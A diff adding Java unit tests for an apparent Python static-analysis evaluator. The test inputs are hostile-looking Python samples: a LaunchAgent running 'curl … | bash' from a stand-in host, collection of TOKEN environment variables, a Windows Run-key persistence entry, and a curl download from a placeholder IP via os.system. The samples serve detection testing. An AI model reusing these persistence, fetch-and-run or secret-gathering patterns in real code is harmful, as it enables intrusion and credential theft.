@@ -192,6 +192,71 @@ class PyEvaluatorTest {
     }
 
     @Test
+    void aPropertyReadThroughSelfRunsItsGetter() {
+        PyModel model = evaluate("""
+                import plistlib
+                from pathlib import Path
+                class Agent:
+                    label = 'com.example.sync'
+                    @property
+                    def path(self):
+                        return Path.home() / 'Library' / 'LaunchAgents' / (self.label + '.plist')
+                    @property
+                    def program(self):
+                        return ['/bin/bash', '-c', 'curl -fsSL https://example.invalid/a.sh | bash']
+                    def install(self):
+                        with open(self.path, 'wb') as fh:
+                            plistlib.dump({'Label': self.label, 'ProgramArguments': self.program}, fh)
+                """);
+        assertThat(model.calls()).filteredOn(c -> c.callee().equals("builtins.open")).singleElement()
+                .satisfies(c -> assertThat(PyBuiltins.fragments(c.args().get(0))).contains("/Library/LaunchAgents/com.example.sync.plist"));
+        assertThat(model.calls()).filteredOn(c -> c.callee().equals("plistlib.dump")).singleElement()
+                .satisfies(c -> assertThat(((Value.Dict) c.args().get(0)).values().get(1)).isInstanceOfSatisfying(Value.Seq.class,
+                        program -> assertThat(PyValues.text(program.items().get(2))).isEqualTo("curl -fsSL https://example.invalid/a.sh | bash")));
+    }
+
+    @Test
+    void aDataclassHoldsWhatItsFieldFactoriesReturnAndAsdictGivesThemAll() {
+        String code = """
+                import os, socket
+                from dataclasses import dataclass, field, asdict
+                def _secrets():
+                    return {k: v for k, v in os.environ.items() if 'TOKEN' in k}
+                @dataclass
+                class Context:
+                    host: str = field(default_factory=socket.gethostname)
+                    env: dict = field(default_factory=_secrets)
+                    level: int = 3
+                sink(asdict(Context()))
+                sink(Context().host)
+                """;
+        List<PyModel.CallSite> sinks = evaluate(code).calls().stream().filter(c -> c.callee().equals("sink")).toList();
+        assertThat(sinks.get(0).args().get(0)).isInstanceOfSatisfying(Value.Dict.class, d -> {
+            assertThat(d.keys()).extracting(PyValues::text).containsExactly("env", "host", "level");
+            assertThat(Value.union(d.values().toArray(Value[]::new))).contains("socket.gethostname", "os.environ.items");
+        });
+        assertThat(sinks.get(1).args().get(0).from()).contains("socket.gethostname");
+    }
+
+    @Test
+    void aGlobalSetInOneBranchOfAFunctionMayStillHoldItsEarlierValue() {
+        // The module's code moved into a function that declares its names global: a flag cleared
+        // on one path only (a lock file younger than 30 s) still lets the payload run on the other.
+        String code = """
+                import time
+                def _init():
+                    global ready
+                    ready = True
+                    if time.time() < 30:
+                        ready = False
+                    if ready:
+                        sink('ran')
+                _init()
+                """;
+        assertThat(PyValues.text(sunk(code))).isEqualTo("ran");
+    }
+
+    @Test
     void eitherOfTwoReturnedConstantsStaysKnownAsAPiece() {
         String code = """
                 import os
@@ -736,6 +801,75 @@ class PyEvaluatorTest {
         assertThat(Value.union(sinks.get(0).args().get(0))).contains("file:~…/.kube/config", "file:~…/.aws/credentials");
         assertThat(Value.union(sinks.get(1).args().get(0))).as("a tuple's parts are used apart").noneMatch(f -> f.startsWith("env:"));
         assertThat(Value.union(sinks.get(2).args().get(0))).as("an object's parts are used apart").noneMatch(f -> f.startsWith("env:"));
+    }
+
+    @Test
+    void anObjectAnotherModuleMadeIsReadThroughItsFieldsClassAttributesAndProperties() {
+        String config = """
+                class _Config:
+                    key_path = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'
+                    def __init__(self):
+                        self.name = 'Host'
+                    @property
+                    def command(self):
+                        return 'pythonw -c "%s"' % self.name
+                CONFIG = _Config()
+                """;
+        String reg = """
+                import winreg
+                def persist(cfg):
+                    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, cfg.key_path)
+                    winreg.SetValueEx(key, cfg.name, 0, winreg.REG_SZ, cfg.command)
+                """;
+        PyModel model = evaluateInPackage("from .config import CONFIG\nfrom ._reg import persist\npersist(CONFIG)\nsink(CONFIG.command)\n",
+                java.util.Map.of("config.py", config, "_reg.py", reg));
+        assertThat(model.calls()).filteredOn(c -> c.callee().equals("sink")).singleElement()
+                .satisfies(c -> assertThat(PyValues.text(c.args().get(0))).isEqualTo("pythonw -c \"Host\""));
+        // What the helper did with what it read off the object it was handed is done at the call.
+        assertThat(model.calls()).filteredOn(c -> c.callee().equals("winreg.SetValueEx")).singleElement()
+                .satisfies(c -> assertThat(PyValues.text(c.args().get(4))).isEqualTo("pythonw -c \"Host\""));
+        assertThat(model.calls()).filteredOn(c -> c.callee().equals("winreg.OpenKey")).singleElement()
+                .satisfies(c -> assertThat(PyValues.text(c.args().get(1))).endsWith("CurrentVersion\\Run"));
+    }
+
+    @Test
+    void aModuleImportedInATryIsBoundForItsFunctionsRunFromAnotherModule() {
+        String backend = """
+                import base64
+                try:
+                    import zlib as _z
+                except ImportError:
+                    _z = None
+                def unpack(blob):
+                    return _z.decompress(base64.b64decode(blob)).decode()
+                """;
+        String code = "from .backend import unpack\nsink(unpack('eJwrKMrMK9FQz0jNyclXKM8vyklR1wQATuMHKQ=='))\n";
+        PyModel model = evaluateInPackage(code, java.util.Map.of("backend.py", backend));
+        assertThat(model.calls()).filteredOn(c -> c.callee().equals("sink")).singleElement()
+                .satisfies(c -> assertThat(PyValues.text(c.args().get(0))).isEqualTo("print('hello world')"));
+    }
+
+    @Test
+    void anInstanceAFactoryOfAnotherModuleReturnedIsReadThroughItsProperties() {
+        String plan = """
+                import os, tempfile
+                class Plan:
+                    origin = 'http://203.0.113.12'
+                    def __init__(self, path):
+                        self.path = path
+                        self.dest = os.path.join(tempfile.gettempdir(), '.rh')
+                    @property
+                    def command(self):
+                        return 'curl -fsSL %s/%s -o %s' % (self.origin, self.path, self.dest)
+                    @classmethod
+                    def default(cls):
+                        return cls('l/rh')
+                """;
+        String run = "import os\ndef dispatch(plan):\n    os.system(plan.command)\n";
+        PyModel model = evaluateInPackage("from .plan import Plan\nfrom .run import dispatch\ndispatch(Plan.default())\n",
+                java.util.Map.of("plan.py", plan, "run.py", run));
+        assertThat(model.calls()).filteredOn(c -> c.callee().equals("os.system"))
+                .anySatisfy(c -> assertThat(PyBuiltins.fragments(c.args().get(0))).contains("curl -fsSL http://203.0.113.12/l/rh -o "));
     }
 
     @Test
